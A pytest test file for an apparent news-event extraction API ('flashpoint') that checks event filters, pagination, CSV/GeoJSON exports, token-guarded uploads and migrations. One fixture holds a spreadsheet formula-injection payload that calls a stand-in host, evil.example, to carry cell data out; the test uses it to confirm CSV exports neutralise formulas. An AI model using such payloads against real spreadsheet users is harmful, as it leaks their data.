"""The REST API as a client sees it, over a real DuckDB store of the example corpus."""

from __future__ import annotations

import csv
import io
import json
from collections.abc import Iterator
from datetime import date
from pathlib import Path

import pytest
from fastapi.testclient import TestClient

from flashpoint.web import create_app

TOKEN = "test-token-123"
KIDAL_STORY = b"""Rebels attack army base near Kidal

KIDAL, Mali, May 3 - Tuareg rebels attacked an army base near Kidal on Tuesday, killing five
soldiers, officials said. The government condemned the attack.
"""


@pytest.fixture(scope="module")
def client(corpus_db: Path) -> Iterator[TestClient]:
    # The context manager runs the app's shutdown, which closes the store: other test modules
    # may open the same DuckDB file afterwards.
    with TestClient(create_app(corpus_db)) as test_client:
        yield test_client


@pytest.fixture(scope="module")
def upload_client(tmp_path_factory: pytest.TempPathFactory) -> Iterator[TestClient]:
    db = tmp_path_factory.mktemp("uploads") / "uploads.duckdb"
    with TestClient(create_app(db, token=TOKEN)) as test_client:
        yield test_client


def get(client: TestClient, url: str, **params: object) -> dict:
    response = client.get(url, params=params)
    assert response.status_code == 200, response.text
    return response.json()


def all_events(client: TestClient, **params: object) -> list[dict]:
    """Every matching event, page by page through next_cursor."""
    events, cursor = [], None
    while True:
        page = get(client, "/api/events", limit=97, **params, **({"cursor": cursor} if cursor else {}))
        events += page["events"]
        cursor = page["next_cursor"]
        if cursor is None:
            return events


@pytest.fixture(scope="module")
def everything(client: TestClient) -> list[dict]:
    return all_events(client)


def test_events_are_listed_in_the_contract_shape(client: TestClient) -> None:
    page = get(client, "/api/events", limit=5)
    assert page["total"] > 100 and len(page["events"]) == 5 and page["next_cursor"]
    for event in page["events"]:
        assert {"id", "article_id", "type", "mode", "cameo", "status", "source", "target", "place", "date",
                "fatalities", "sentence", "trigger", "confidence", "article"} <= set(event)
        assert set(event["article"]) >= {"id", "title", "outlet", "url", "published"}
        assert event["article"]["id"] == event["article_id"]
        sentence, trigger = event["sentence"], event["trigger"]
        assert sentence["text"][trigger["start"] - sentence["start"]:trigger["end"] - sentence["start"]] == trigger["text"]
        if event["place"]:
            assert "admin1" in event["place"]


def test_pagination_walks_every_event_once_in_each_order(client: TestClient, everything: list[dict]) -> None:
    total = get(client, "/api/events", limit=1)["total"]
    ids = [e["id"] for e in everything]
    assert len(ids) == total and len(set(ids)) == total
    for sort in ("date", "type", "-fatalities", "id"):
        walked = all_events(client, sort=sort)
        assert sorted(e["id"] for e in walked) == sorted(ids), sort
    by_fatalities = [e["fatalities"] if e["fatalities"] is not None else -1 for e in all_events(client, sort="-fatalities")]
    assert by_fatalities == sorted(by_fatalities, reverse=True)
    days = [e["day"] for e in everything if e["day"]]
    assert days == sorted(days, reverse=True)  # the default order is newest first


def test_type_and_status_filters(client: TestClient, everything: list[dict]) -> None:
    assaults = all_events(client, type="ASSAULT")
    assert assaults and all(e["type"] == "ASSAULT" for e in assaults)
    assert len(assaults) == sum(e["type"] == "ASSAULT" for e in everything)
    two = get(client, "/api/events", type="assault,COERCE")["total"]
    repeated = client.get("/api/events", params=[("type", "ASSAULT"), ("type", "COERCE")]).json()["total"]
    assert two == repeated == sum(e["type"] in ("ASSAULT", "COERCE") for e in everything)
    negated = all_events(client, status="negated")
    assert negated and all(e["status"] == "negated" for e in negated)


def test_actor_source_and_target_filters(client: TestClient) -> None:
    actor = get(client, "/api/actors", limit=1)["actors"][0]
    events = all_events(client, actor=actor["id"])
    assert len(events) == actor["events"]
    assert all(actor["id"] in (e["source"] and e["source"]["id"], e["target"] and e["target"]["id"]) for e in events)
    as_source = all_events(client, source=actor["id"])
    assert len(as_source) == actor["as_source"] and all(e["source"]["id"] == actor["id"] for e in as_source)
    assert all(e["target"]["id"] == actor["id"] for e in all_events(client, target=actor["id"]))


def test_place_filters(client: TestClient, everything: list[dict]) -> None:
    sudan = all_events(client, country="SDN")
    assert sudan and all(e["place"]["country"] == "SDN" for e in sudan)
    assert get(client, "/api/events", country="SD")["total"] == len(sudan)  # alpha-2 is converted
    inside = all_events(client, bbox="21.8,8.6,38.6,22.2")  # Sudan's box
    assert inside and len(inside) < len(everything)
    assert all(21.8 <= e["place"]["lon"] <= 38.6 and 8.6 <= e["place"]["lat"] <= 22.2 for e in inside)
    area = next(e["place"]["admin1"] for e in everything if e["place"] and e["place"]["admin1"])
    in_area = all_events(client, admin1=area.upper())
    assert in_area and all(e["place"]["admin1"] == area for e in in_area)


def test_date_text_and_outlet_filters(client: TestClient, everything: list[dict]) -> None:
    october = all_events(client, start="2024-10-01", end="2024-10-31")
    assert october and len(october) < len(everything)
    for event in october:
        assert "2024-10-01" <= event["day"] <= "2024-10-31"
        # The day is the event's own date, else (none given) the article's publication date.
        assert event["day"].startswith(event["date"]["value"]) if event["date"] else event["day"] == event["article"]["published"]
    # A fused event matches q and outlet when any of its mentions does; a mention by its own.
    drones = all_events(client, q="DRONE")
    assert drones and all(any("drone" in m["sentence"].lower() for m in e["mentions"]) for e in drones)
    drone_mentions = all_events(client, q="DRONE", level="mention")
    assert len(drone_mentions) >= len(drones) and all("drone" in e["sentence"]["text"].lower() for e in drone_mentions)
    outlet = next(e["article"]["outlet"] for e in everything if e["article"]["outlet"])
    told = {e["id"] for e in everything if any(m["outlet"] == outlet for m in e["mentions"])}
    assert told and {e["id"] for e in all_events(client, outlet=outlet.lower())} == told
    # An event another outlet founded, reported by this one too, is found by this one's name.
    shared = next(e for e in everything if len({m["outlet"] for m in e["mentions"]}) > 1)
    other = next(m["outlet"] for m in shared["mentions"] if m["outlet"] != shared["article"]["outlet"])
    assert shared["id"] in {e["id"] for e in all_events(client, outlet=other.upper())}
    assert all(e["article"]["outlet"] == outlet for e in all_events(client, outlet=outlet.lower(), level="mention"))
    both = all_events(client, type="ASSAULT", start="2024-10-01", end="2024-10-31")
    assert {e["id"] for e in both} == {e["id"] for e in october if e["type"] == "ASSAULT"}


@pytest.mark.parametrize("params, parameter", [
    ({"start": "2024-02-30"}, "start"),
    ({"end": "yesterday"}, "end"),
    ({"start": "2025-01-01", "end": "2024-01-01"}, "start"),
    ({"bbox": "1,2,3"}, "bbox"),
    ({"bbox": "10,50,20,40"}, "bbox"),
    ({"sort": "-name"}, "sort"),
    ({"limit": 0}, "limit"),
    ({"limit": 501}, "limit"),
    ({"limit": "many"}, "limit"),
    ({"cursor": "not-a-cursor"}, "cursor"),
    ({"type": "EXPLODE"}, "type"),
    ({"status": "rumoured"}, "status"),
    ({"country": "Atlantis"}, "country"),
    ({"format": "xlsx"}, "format"),
])
def test_bad_parameters_are_422_naming_the_parameter(client: TestClient, params: dict, parameter: str) -> None:
    response = client.get("/api/events", params=params)
    assert response.status_code == 422
    assert response.json()["detail"].startswith(f"{parameter}:")


def test_other_endpoints_reject_bad_parameters(client: TestClient) -> None:
    for url, parameter in [("/api/timeline?interval=year", "interval"), ("/api/timeline?split=actor", "split"),
                           ("/api/network?limit=0", "limit"), ("/api/articles?cursor=zzz", "cursor"),
                           ("/api/places?start=2024-1-1", "start")]:
        response = client.get(url)
        assert response.status_code == 422, url
        assert response.json()["detail"].startswith(f"{parameter}:"), url
    cursor = get(client, "/api/events", limit=3)["next_cursor"]
    mismatch = client.get("/api/events", params={"cursor": cursor, "sort": "type"})
    assert mismatch.status_code == 422 and "sort" in mismatch.json()["detail"]


def test_downloads_hold_every_matching_event(client: TestClient, everything: list[dict]) -> None:
    csv_response = client.get("/api/events", params={"format": "csv", "limit": 5})
    assert csv_response.status_code == 200 and "attachment" in csv_response.headers["content-disposition"]
    rows = list(csv.DictReader(io.StringIO(csv_response.text)))
    assert len(rows) == len(everything)  # all of them, not one page
    assert {r["id"] for r in rows} == {str(e["id"]) for e in everything}
    assert rows[0]["type"] and "sentence.text" in rows[0]

    lines = client.get("/api/events", params={"format": "jsonl", "type": "ASSAULT"}).text.splitlines()
    assert len(lines) == get(client, "/api/events", type="ASSAULT")["total"]
    assert all(json.loads(line)["type"] == "ASSAULT" for line in lines)

    geojson = client.get("/api/events", params={"format": "geojson"})
    assert "attachment" in geojson.headers["content-disposition"]
    collection = geojson.json()
    located = [e for e in everything if e["place"] and e["place"]["lat"] is not None]
    assert collection["type"] == "FeatureCollection" and len(collection["features"]) == len(located)
    feature = collection["features"][0]
    assert feature["geometry"]["type"] == "Point" and feature["properties"]["place.lat"] == feature["geometry"]["coordinates"][1]


def test_event_detail_marks_its_parts_in_the_sentence(client: TestClient) -> None:
    mentions = all_events(client, level="mention")
    with_actors = [e for e in mentions if e["source"] and e["target"]][:15]
    for listed in with_actors:
        event = get(client, f"/api/events/{listed['id']}", level="mention")
        text = event["sentence"]["text"]
        kinds = {span["kind"] for span in event["sentence_spans"]}
        assert "trigger" in kinds and event["fused_id"] is not None
        assert all(other["id"] != event["id"] for other in event["other_mentions"])
        for span in event["sentence_spans"]:
            assert text[span["start"]:span["end"]] == span["text"]
            if span["kind"] == "trigger":
                assert span["text"] == event["trigger"]["text"] and span["label"] == event["type"]
            if span["kind"] in ("source", "target"):
                assert span["label"] == event[span["kind"]]["name"]
    assert client.get("/api/events/987654321").status_code == 404
    assert client.get("/api/events/987654321").json() == {"detail": "no event 987654321"}


def test_timeline_counts_add_up_to_the_total(client: TestClient) -> None:
    for params in ({}, {"type": "ASSAULT"}, {"country": "SDN"}):
        total = get(client, "/api/events", **params)["total"]
        for interval in ("day", "week", "month"):
            timeline = get(client, "/api/timeline", interval=interval, **params)
            periods = [point["period"] for point in timeline["series"]]
            assert periods == sorted(periods)
            assert sum(sum(p["counts"].values()) for p in timeline["series"]) + timeline["undated"] == total
            if interval == "week":
                assert all(date.fromisoformat(p).weekday() == 0 for p in periods)
            if interval == "month":
                assert all(p.endswith("-01") for p in periods)
    by_status = get(client, "/api/timeline", split="status")
    assert by_status["split"] == "status" and set(by_status["keys"]) <= {"asserted", "hypothetical", "negated"}


def test_network_edges_count_events_between_two_actors(client: TestClient) -> None:
    graph = get(client, "/api/network", limit=20)
    assert graph["edges"] and len(graph["edges"]) <= 20
    node_ids = {node["id"] for node in graph["nodes"]}
    for edge in graph["edges"]:
        assert edge["source"] in node_ids and edge["target"] in node_ids and edge["source"] != edge["target"]
        assert edge["cooperation"] + edge["conflict"] <= edge["count"]
        expected = "mixed" if edge["cooperation"] and edge["conflict"] else "cooperation" if edge["cooperation"] else "conflict"
        assert edge["kind"] == expected
    top = graph["edges"][0]
    assert get(client, "/api/events", source=top["source"], target=top["target"])["total"] == top["count"]
    assaults = get(client, "/api/network", type="ASSAULT")
    assert assaults["edges"] and all(edge["kind"] == "conflict" for edge in assaults["edges"])


def test_generic_actors_stay_out_of_the_actor_list_and_network_unless_asked(client: TestClient, everything: list[dict]) -> None:
    roles = [e[role] for e in everything for role in ("source", "target") if e[role]]
    generic = {a["id"] for a in roles if a["generic"]} - {a["id"] for a in roles if not a["generic"]}
    assert generic, "the example corpus names kinds of actors (soldiers, villagers)"
    listed = {a["id"] for a in get(client, "/api/actors", limit=1000)["actors"]}
    assert listed and not listed & generic
    assert generic <= {a["id"] for a in get(client, "/api/actors", limit=1000, generic=True)["actors"]}
    nodes = {n["id"] for n in get(client, "/api/network", limit=1000)["nodes"]}
    assert nodes and not nodes & generic
    assert {n["id"] for n in get(client, "/api/network", limit=1000, generic=True)["nodes"]} & generic
    # A named actor's count is the number of fused events that name it, on either side.
    for actor in get(client, "/api/actors", limit=5)["actors"]:
        named = [e for e in everything if actor["id"] in {(e["source"] or {}).get("id"), (e["target"] or {}).get("id")}]
        assert actor["events"] == len(named)
        assert actor["as_source"] == sum((e["source"] or {}).get("id") == actor["id"] for e in named)


def test_actors_and_places(client: TestClient) -> None:
    actors = get(client, "/api/actors", limit=10)["actors"]
    assert [a["events"] for a in actors] == sorted((a["events"] for a in actors), reverse=True)
    found = get(client, "/api/actors", q="islamic")["actors"]
    assert found and all("islamic" in (a["name"] or "").lower() or "islamic" in a["id"].lower() for a in found)
    places = get(client, "/api/places", country="SDN")["places"]
    assert places and all(p["country"] == "SDN" for p in places)
    assert sum(p["events"] for p in get(client, "/api/places", limit=10000)["places"]) == len(
        [e for e in all_events(client) if e["place"]])


def test_articles_list_and_detail(client: TestClient) -> None:
    meta = get(client, "/api/meta")
    seen, cursor = [], None
    while True:
        page = get(client, "/api/articles", limit=7, **({"cursor": cursor} if cursor else {}))
        seen += [a["id"] for a in page["articles"]]
        cursor = page["next_cursor"]
        if cursor is None:
            break
    assert len(seen) == len(set(seen)) == meta["counts"]["articles"]
    article = max(page["articles"] + get(client, "/api/articles", limit=500)["articles"], key=lambda a: a["events"])
    detail = get(client, f"/api/articles/{article['id']}")
    text = detail["text"]
    kinds = {span["kind"] for span in detail["spans"]}
    assert {"actor", "place", "trigger"} <= kinds
    events = {e["id"]: e for e in all_events(client, level="mention") if e["article_id"] == article["id"]}
    for span in detail["spans"]:
        assert 0 <= span["start"] < span["end"] <= len(text)
        if span["kind"] == "trigger":
            assert text[span["start"]:span["end"]] == events[span["event_id"]]["trigger"]["text"]
        if span["kind"] == "date":
            assert text[span["start"]:span["end"]] == events[span["event_id"]]["date"]["text"]
    assert client.get("/api/articles/0000000000000000").status_code == 404


def test_meta_lists_filter_values(client: TestClient, everything: list[dict]) -> None:
    meta = get(client, "/api/meta")
    assert set(meta["types"]) == {e["type"] for e in everything}
    assert meta["statuses"] == ["asserted", "hypothetical", "negated"]
    assert meta["counts"]["fused_events"] == len(everything)
    assert meta["counts"]["events"] == sum(e["num_mentions"] for e in everything)
    assert meta["date_min"] <= meta["date_max"] and "SDN" in meta["countries"] and meta["outlets"]


def test_ingest_is_refused_without_a_server_token(client: TestClient) -> None:
    response = client.post("/api/ingest", files={"file": ("kidal.txt", KIDAL_STORY)}, headers={"Authorization": f"Bearer {TOKEN}"})
    assert response.status_code == 403
    assert response.json() == {"detail": "ingest is disabled: start the server with --token"}


def test_ingest_needs_the_right_token(upload_client: TestClient) -> None:
    for headers in ({}, {"Authorization": "Bearer wrong"}, {"X-Flashpoint-Token": "wrong"}):
        response = upload_client.post("/api/ingest", files={"file": ("kidal.txt", KIDAL_STORY)}, headers=headers)
        assert response.status_code == 401, headers
    assert get(upload_client, "/api/meta")["counts"]["articles"] == 0


def test_an_upload_is_extracted_stored_and_listed(upload_client: TestClient) -> None:
    response = upload_client.post("/api/ingest", files={"file": ("kidal.txt", KIDAL_STORY)}, headers={"Authorization": f"Bearer {TOKEN}"})
    assert response.status_code == 200, response.text
    body = response.json()
    assert body["status"] == "new" and body["document"]["doc_id"] == "kidal.txt"
    assert any(e["type"] == "ASSAULT" for e in body["document"]["events"])
    listed = get(upload_client, "/api/events", q="kidal")
    assert listed["total"] >= 1 and all(e["article_id"] == body["article_id"] for e in listed["events"])
    assert get(upload_client, f"/api/articles/{body['article_id']}")["title"] == "Rebels attack army base near Kidal"

    again = upload_client.post("/api/ingest", files={"file": ("copy.txt", KIDAL_STORY)}, headers={"X-Flashpoint-Token": TOKEN})
    assert again.status_code == 200
    assert again.json()["status"] == "duplicate" and again.json()["article_id"] == body["article_id"]
    assert again.json()["document"]["events"] == body["document"]["events"]


@pytest.mark.parametrize("name, data, reason", [
    ("report.pdf", b"%PDF-1.4", "unsupported file type"),
    ("empty.txt", b"", "empty file"),
    ("broken.json", b"{\"text\": ", "malformed JSON"),
])
def test_a_bad_upload_is_422_with_its_reason(upload_client: TestClient, name: str, data: bytes, reason: str) -> None:
    response = upload_client.post("/api/ingest", files={"file": (name, data)}, headers={"X-Flashpoint-Token": TOKEN})
    assert response.status_code == 422
    assert response.json()["detail"].startswith("file:") and reason in response.json()["detail"]


def test_openapi_documents_every_endpoint_and_parameter(client: TestClient) -> None:
    assert client.get("/docs").status_code == 200
    schema = get(client, "/openapi.json")
    for path in ("/api/events", "/api/events/{event_id}", "/api/actors", "/api/places", "/api/articles",
                 "/api/articles/{article_id}", "/api/timeline", "/api/network", "/api/meta", "/api/ingest"):
        assert path in schema["paths"], path
    for path, methods in schema["paths"].items():
        for operation in methods.values():
            for parameter in operation.get("parameters", []):
                if parameter["in"] == "query":
                    assert parameter.get("description"), (path, parameter["name"])


def test_a_version_2_store_is_migrated_with_admin1_and_day_filled(tmp_path: Path) -> None:
    import duckdb

    from flashpoint.store import open_store
    from flashpoint.store.schema import MIGRATIONS

    db = tmp_path / "old.duckdb"
    old = duckdb.connect(str(db))
    old.execute("CREATE TABLE schema_version (version INTEGER NOT NULL)")
    for version, migration in enumerate(MIGRATIONS[:2], start=1):
        old.execute(migration)
        old.execute("INSERT INTO schema_version VALUES (?)", [version])
    old.execute("INSERT INTO articles (id, content_hash, source, text, extraction, published) "
                "VALUES ('a1', 'h1', 'old.txt', 'Shelling hit Baqubah.', 'done', DATE '2024-04-03')")
    old.execute("INSERT INTO places (article_id, text, start_char, end_char, geonameid, name, country, admin1) "
                "VALUES ('a1', 'Baqubah', 13, 20, 97990, 'Baqubah', 'IRQ', 'Diyala')")
    old.execute("INSERT INTO events (article_id, type, status, place_name, place_country, place_geonameid, date_value) "
                "VALUES ('a1', 'ASSAULT', 'asserted', 'Baqubah', 'IRQ', 97990, '2024-03'), "
                "('a1', 'ASSAULT', 'asserted', NULL, NULL, NULL, NULL)")
    old.close()
    store = open_store(db)
    try:
        rows = store.query("SELECT place_admin1, day FROM events ORDER BY id")
    finally:
        store.close()
    assert rows == [{"place_admin1": "Diyala", "day": date(2024, 3, 1)}, {"place_admin1": None, "day": date(2024, 4, 3)}]


FORMULA_STORY = b"""=HYPERLINK("http://evil.example/?x="&A1,"Click") Militants shell Gao

GAO, Mali, June 4 - Militants shelled an army camp in Gao on Monday, killing three soldiers,
officials said.
"""


def test_csv_downloads_neutralise_spreadsheet_formulas(upload_client: TestClient) -> None:
    response = upload_client.post("/api/ingest", files={"file": ("gao.txt", FORMULA_STORY)}, headers={"X-Flashpoint-Token": TOKEN})
    assert response.status_code == 200, response.text
    article_id = response.json()["article_id"]
    download = upload_client.get("/api/events", params={"format": "csv", "q": "Gao"})
    rows = [r for r in csv.DictReader(io.StringIO(download.text)) if r["article_id"] == article_id]
    assert rows
    for row in rows:
        # A spreadsheet would run a cell starting with = + - @ as a formula; the leading
        # apostrophe makes it text, and the rest of the cell is kept as it was.
        assert row["article.title"].startswith("'=HYPERLINK(")
        for column, value in row.items():
            if value.startswith(("=", "+", "-", "@")):
                assert column in ("place.lat", "place.lon") and float(value) < 0, (column, value)
    # Numbers keep their sign (Gao lies west of Greenwich): only text is neutralised.
    assert any(float(row["place.lon"]) < 0 for row in rows if row["place.lon"])
    # JSON keeps the exact text.
    assert get(upload_client, "/api/events", q="Gao")["events"][0]["article"]["title"].startswith("=HYPERLINK(")


@pytest.mark.parametrize("name", ["日本語" * 80 + ".txt", "a" * 300 + ".txt"])
def test_an_upload_with_a_very_long_name_keeps_its_type(upload_client: TestClient, name: str) -> None:
    response = upload_client.post("/api/ingest", files={"file": (name, KIDAL_STORY + b"\nAgain.")}, headers={"X-Flashpoint-Token": TOKEN})
    assert response.status_code == 200, response.text
    doc_id = response.json()["document"]["doc_id"]
    assert doc_id.endswith(".txt") and len(doc_id.encode()) <= 200


def test_a_cursor_from_another_order_is_named_as_such(client: TestClient) -> None:
    by_date = get(client, "/api/events", limit=3)["next_cursor"]
    response = client.get("/api/events", params={"cursor": by_date, "sort": "-fatalities"})
    assert response.status_code == 422
    assert response.json()["detail"] == "cursor: was made for sort=-date, not sort=-fatalities"
    article_cursor = get(client, "/api/articles", limit=3)["next_cursor"]
    response = client.get("/api/events", params={"cursor": article_cursor})
    assert response.status_code == 422 and "sort=-published" in response.json()["detail"]


def test_openapi_describes_path_parameters_and_the_actor_search(client: TestClient) -> None:
    schema = get(client, "/openapi.json")
    for path, methods in schema["paths"].items():
        for operation in methods.values():
            assert operation.get("description") or operation.get("summary"), path
            for parameter in operation.get("parameters", []):
                assert parameter.get("description"), (path, parameter["name"])
    (q,) = [p for p in schema["paths"]["/api/actors"]["get"]["parameters"] if p["name"] == "q"]
    assert q["description"].startswith("Part of the actor's id or name")


def test_fused_events_carry_their_mentions_and_counts(client: TestClient, everything: list[dict]) -> None:
    mentions = get(client, "/api/events", level="mention", limit=1)["total"]
    assert len(everything) < mentions  # repeated reports were fused
    for event in everything:
        assert {"num_mentions", "num_articles", "num_sources", "first_reported", "last_reported", "corroboration",
                "fatalities", "fatalities_range", "mentions"} <= set(event)
        assert event["num_mentions"] == len(event["mentions"]) >= event["num_articles"] >= event["num_sources"] >= 1
        assert event["corroboration"] in ("single_source", "multiple_sources", "contradicted")
        assert event["first_reported"] <= event["last_reported"]
        for mention in event["mentions"]:
            assert set(mention) >= {"article_id", "doc_id", "outlet", "url", "published", "sentence", "trigger"}
        if event["fatalities_range"]:
            low, high = event["fatalities_range"]
            assert low <= event["fatalities"] <= high
    sennar = [e for e in everything if e["type"] == "ASSAULT" and e["num_sources"] == 3
              and {m["outlet"] for m in e["mentions"]} == {"Nile Courier", "Frontline Digest", "Sudan Monitor Daily"}]
    assert len(sennar) == 1 and sennar[0]["place"]["name"] == "Sennar" and sennar[0]["date"]["value"] == "2024-10-12"
    assert sennar[0]["fatalities"] == 25 and sennar[0]["fatalities_range"] == [18, 25]
    assert client.get("/api/events", params={"level": "sentence"}).status_code == 422


def test_fused_event_detail_shows_every_mention_side_by_side(client: TestClient, everything: list[dict]) -> None:
    event = max(everything, key=lambda e: e["num_articles"])
    detail = get(client, f"/api/events/{event['id']}")
    assert len(detail["evidence"]) == event["num_mentions"] and {m["id"] for m in detail["evidence"]} == {m["id"] for m in event["mentions"]}
    outlets = {m["article"]["outlet"] for m in detail["evidence"]}
    assert len(outlets) == event["num_articles"] >= 3
    for mention in detail["evidence"]:
        assert mention["sentence"]["text"] and mention["article"]["published"]
        if mention["matched_id"] is not None:  # joined: the factors say why
            assert {f["factor"] for f in mention["factors"]} >= {"type", "date", "place", "source", "target"}
            assert mention["score"] == pytest.approx(sum(f["weight"] for f in mention["factors"]))
    founder = [m for m in detail["evidence"] if m["matched_id"] is None]
    assert [m["id"] for m in founder] == [event["id"]]
    assert client.get("/api/events/987654321").json() == {"detail": "no event 987654321"}


def test_aggregates_count_fused_events(client: TestClient, everything: list[dict]) -> None:
    places = get(client, "/api/places", limit=10000)["places"]
    assert sum(p["events"] for p in places) == sum(1 for e in everything if e["place"])
    sdn = get(client, "/api/events", country="SDN", limit=1)["total"]
    timeline = get(client, "/api/timeline", country="SDN", interval="month")
    assert sum(sum(p["counts"].values()) for p in timeline["series"]) + timeline["undated"] == sdn
